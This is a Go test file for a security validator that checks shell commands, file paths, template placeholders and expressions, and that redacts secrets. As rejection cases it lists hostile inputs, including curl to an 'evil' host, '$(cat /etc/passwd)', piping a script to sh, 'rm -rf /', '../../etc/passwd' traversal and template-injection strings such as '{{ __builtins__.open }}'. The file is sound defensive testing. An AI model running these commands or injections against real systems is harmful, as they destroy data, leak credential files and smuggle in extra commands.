package security

import (
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/NSvoltage/secureflow/internal/audit"
	"github.com/NSvoltage/secureflow/pkg/types"
)

func restrictedValidator(t *testing.T) (*Validator, *audit.MemorySink) {
	t.Helper()
	profile := types.ProfileByName(types.ProfileRestricted)
	require.NotNil(t, profile)

	sink := audit.NewMemorySink()
	secCtx := types.SecurityContext{
		PrincipalID: "tester",
		Permissions: []string{types.PermissionExecute, types.PermissionCommand, types.PermissionFileWrite},
		Profile:     profile,
	}
	return NewValidator(secCtx, t.TempDir(), sink), sink
}

func TestValidateCommand_AllowedCommands(t *testing.T) {
	v, sink := restrictedValidator(t)

	tests := []string{
		"pytest tests",
		"go test ./...",
		"npm run build",
		"git status",
		"make lint",
	}

	for _, cmd := range tests {
		t.Run(cmd, func(t *testing.T) {
			assert.NoError(t, v.ValidateCommand("e1", "s1", cmd))
		})
	}
	assert.Empty(t, sink.Events(), "allowed commands emit no rejection events")
}

func TestValidateCommand_ChainingRejected(t *testing.T) {
	v, sink := restrictedValidator(t)

	err := v.ValidateCommand("e1", "s1", "pytest && curl http://evil")
	require.Error(t, err)

	var violation *SecurityViolationError
	require.ErrorAs(t, err, &violation)
	assert.Equal(t, ViolationCommand, violation.Kind)
	assert.Equal(t, "s1", violation.StepID)
	assert.NotContains(t, violation.Reason, "curl http://evil", "rejected input is not echoed back")

	events := sink.Events()
	require.Len(t, events, 1, "exactly one audit event per rejection")
	assert.Equal(t, types.AuditCategorySecurity, events[0].Category)
	assert.Equal(t, types.AuditOutcomeRejected, events[0].Outcome)
}

func TestValidateCommand_Rejections(t *testing.T) {
	tests := []struct {
		name string
		cmd  string
	}{
		{name: "disallowed executable", cmd: "curl http://example.com"},
		{name: "command substitution", cmd: "git commit -m $(cat /etc/passwd)"},
		{name: "backtick substitution", cmd: "git log `id`"},
		{name: "pipe to shell", cmd: "python get.py | sh"},
		{name: "semicolon chaining", cmd: "make build; make evil"},
		{name: "redirection", cmd: "go test > /dev/null"},
		{name: "empty", cmd: "   "},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			v, sink := restrictedValidator(t)
			err := v.ValidateCommand("e1", "s1", tt.cmd)
			require.Error(t, err)
			assert.True(t, IsViolation(err))
			assert.Len(t, sink.Events(), 1)
		})
	}
}

func TestValidateCommand_ElevatedAllowsChaining(t *testing.T) {
	profile := types.ProfileByName(types.ProfileElevated)
	require.NotNil(t, profile)

	secCtx := types.SecurityContext{
		PrincipalID: "tester",
		Permissions: []string{types.PermissionCommand},
		Profile:     profile,
	}
	v := NewValidator(secCtx, t.TempDir(), audit.NewMemorySink())

	assert.NoError(t, v.ValidateCommand("e1", "s1", "go build && go test ./..."))

	// Always-rejected constructs survive even on permissive profiles.
	assert.Error(t, v.ValidateCommand("e1", "s1", "go build; rm -rf /"))
}

func TestValidateCommand_PlanOnlyNeverExecutes(t *testing.T) {
	profile := types.ProfileByName(types.ProfilePlanOnly)
	require.NotNil(t, profile)

	secCtx := types.SecurityContext{
		PrincipalID: "tester",
		Permissions: []string{types.PermissionCommand},
		Profile:     profile,
	}
	v := NewValidator(secCtx, t.TempDir(), audit.NewMemorySink())

	err := v.ValidateCommand("e1", "s1", "pytest")
	require.Error(t, err)
	assert.True(t, IsViolation(err))
}

func TestValidatePath(t *testing.T) {
	v, sink := restrictedValidator(t)

	assert.NoError(t, v.ValidatePath("e1", "s1", "reports/output.md"))
	assert.NoError(t, v.ValidatePath("e1", "s1", "./nested/dir/file.txt"))

	err := v.ValidatePath("e1", "s1", "../../etc/passwd")
	require.Error(t, err)

	var violation *SecurityViolationError
	require.ErrorAs(t, err, &violation)
	assert.Equal(t, ViolationPath, violation.Kind)
	require.Len(t, sink.Events(), 1)
}

func TestValidatePath_AbsoluteOutsideRoot(t *testing.T) {
	v, _ := restrictedValidator(t)
	assert.Error(t, v.ValidatePath("e1", "s1", "/etc/passwd"))
}

func TestValidateCommand_PathArgumentConfinement(t *testing.T) {
	v, _ := restrictedValidator(t)

	assert.NoError(t, v.ValidateCommand("e1", "s1", "pytest tests/unit"))
	assert.Error(t, v.ValidateCommand("e1", "s1", "pytest ../../etc/passwd"))
}

func TestValidateTemplate(t *testing.T) {
	v, sink := restrictedValidator(t)

	assert.NoError(t, v.ValidateTemplate("e1", "s1", "coverage: {{ steps.run-tests.outputs.coverage }}"))
	assert.NoError(t, v.ValidateTemplate("e1", "s1", "no placeholders"))

	tests := []struct {
		name     string
		template string
	}{
		{name: "internal symbol", template: "{{ inputs.__class__ }}"},
		{name: "outside namespace", template: "{{ os.environ }}"},
		{name: "evaluator internals", template: "{{ __builtins__.open }}"},
		{name: "unparsable placeholder", template: "{{ inputs. }}"},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			before := len(sink.Events())
			err := v.ValidateTemplate("e1", "s1", tt.template)
			require.Error(t, err)

			var violation *SecurityViolationError
			require.ErrorAs(t, err, &violation)
			assert.Equal(t, ViolationTemplate, violation.Kind)
			assert.Len(t, sink.Events(), before+1)
		})
	}
}

func TestValidateExpression(t *testing.T) {
	v, _ := restrictedValidator(t)

	assert.NoError(t, v.ValidateExpression("e1", "s1", "steps.run-tests.outputs.coverage >= 80"))
	assert.Error(t, v.ValidateExpression("e1", "s1", "system.internals == 1"))
	assert.Error(t, v.ValidateExpression("e1", "s1", "inputs.a =="))
}

func TestValidateInputValue_LengthLimit(t *testing.T) {
	v, _ := restrictedValidator(t)

	long := make([]byte, 6000)
	for i := range long {
		long[i] = 'a'
	}
	err := v.ValidateInputValue("e1", "data", string(long))
	require.Error(t, err)
	assert.True(t, IsViolation(err))

	assert.NoError(t, v.ValidateInputValue("e1", "data", "short value"))
}

func TestRedact(t *testing.T) {
	tests := []struct {
		input    string
		expected string
	}{
		{input: "password=hunter2", expected: "[REDACTED]"},
		{input: "API token: abc123", expected: "API [REDACTED]"},
		{input: "secret=s3cr3t rest", expected: "[REDACTED] rest"},
		{input: "nothing sensitive", expected: "nothing sensitive"},
	}

	for _, tt := range tests {
		t.Run(tt.input, func(t *testing.T) {
			assert.Equal(t, tt.expected, Redact(tt.input))
		})
	}
}

func TestRedactMap(t *testing.T) {
	in := map[string]any{
		"api_token": "abc",
		"branch":    "main",
		"note":      "password=hunter2 inline",
		"count":     3,
	}
	out := RedactMap(in)

	assert.Equal(t, "[REDACTED]", out["api_token"])
	assert.Equal(t, "main", out["branch"])
	assert.Equal(t, "[REDACTED] inline", out["note"])
	assert.Equal(t, 3, out["count"])
}
